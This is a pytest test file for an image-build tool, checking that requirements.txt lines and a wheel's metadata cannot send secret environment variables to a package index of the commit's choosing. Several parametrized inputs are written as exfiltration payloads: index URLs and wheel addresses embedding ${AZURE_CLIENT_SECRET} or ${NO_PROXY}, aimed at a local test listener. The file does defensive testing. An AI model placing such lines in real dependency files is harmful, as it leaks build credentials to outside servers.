import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tandem.errors import BuildFailed
from tandem.records import Image, Source
from tandem.settings import ImageSettings

SECRET = "s3cret"


@dataclass
class Listener:
    """Somebody's index: where it is, the paths that it was asked for, and the wheel that it gives for any."""

    address: str
    asked: list[str] = field(default_factory=list)
    wheel: bytes = b""


@pytest.fixture
def listener(monkeypatch: pytest.MonkeyPatch) -> Iterator[Listener]:
    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_response(200 if found.wheel else 404)
            self.send_header("Content-Length", str(len(found.wheel)))
            self.end_headers()
            self.wfile.write(found.wheel)

        def log_message(self, format: str, *args: object) -> None:
            pass

    for name, value in {"PIP_NO_CACHE_DIR": "1", "PIP_RETRIES": "0", "NO_PROXY": f"127.0.0.1,{SECRET}"}.items():
        monkeypatch.setenv(name, value)
    with ThreadingHTTPServer(("127.0.0.1", 0), Listening) as server:
        found = Listener(f"http://127.0.0.1:{server.server_port}")
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield found
        server.shutdown()


Build = Callable[[str], Image]


@pytest.fixture
def requiring(
    source: Callable[..., Source], settings: Callable[..., ImageSettings], build: Callable[..., Image]
) -> Build:
    """An image is built from these lines."""
    return lambda lines: build(
        source({"app.py": "", "requirements.txt": lines}), settings(requirements="requirements.txt")
    )


@pytest.mark.parametrize("hashed", ["", f" --hash=sha256:{'0' * 64}"])
@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url {}/${{AZURE_CLIENT_SECRET}}/simple\nhello==1.0",
        "hello @ {}/${{NO_PROXY}}/h-1-py3-none-any.whl",
    ],
)
def test_a_commit_cannot_send_the_workers_secrets_to_an_index_of_its_choice(
    listener: Listener, requiring: Build, monkeypatch: pytest.MonkeyPatch, line: str, hashed: str
) -> None:
    monkeypatch.setenv("AZURE_CLIENT_SECRET", SECRET)
    with pytest.raises(BuildFailed) as failed:
        requiring(line.format(listener.address) + hashed + "\n")
    assert listener.asked == []
    assert failed.match(r"\$\{(AZURE_CLIENT_SECRET|NO_PROXY)\} is not put in")
    assert SECRET not in str(failed.value)


def test_what_pip_is_told_by_its_own_variables_is_put_in(
    listener: Listener, requiring: Build, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_NO_INDEX", "0")
    monkeypatch.setenv("PIP_TEAM", "ours")
    monkeypatch.setenv("PIP_HELLO", "1.0")
    with pytest.raises(BuildFailed, match="no wheel of hello"):
        requiring(f"--index-url {listener.address}/${{PIP_TEAM}}/simple\nhello==${{PIP_HELLO}}\n")
    assert listener.asked == ["/ours/simple/hello/"]


def test_a_packages_own_metadata_cannot_send_them_either(
    listener: Listener, requiring: Build, wheel: Callable[..., str], wheelhouse: Path
) -> None:
    wheel("other", "1.0")
    listener.wheel = (wheelhouse / "other-1.0-py3-none-any.whl").read_bytes()
    address = f"{listener.address}/${{NO_PROXY}}/other-1.0-py3-none-any.whl"
    wheel("hello", "1.0", metadata=f"Requires-Dist: other @ {address}\n")
    with pytest.raises(BuildFailed, match="a variable in its address") as failed:
        requiring("hello==1.0\n")
    assert listener.asked
    assert not [path for path in listener.asked if SECRET in path]
    assert SECRET not in str(failed.value)
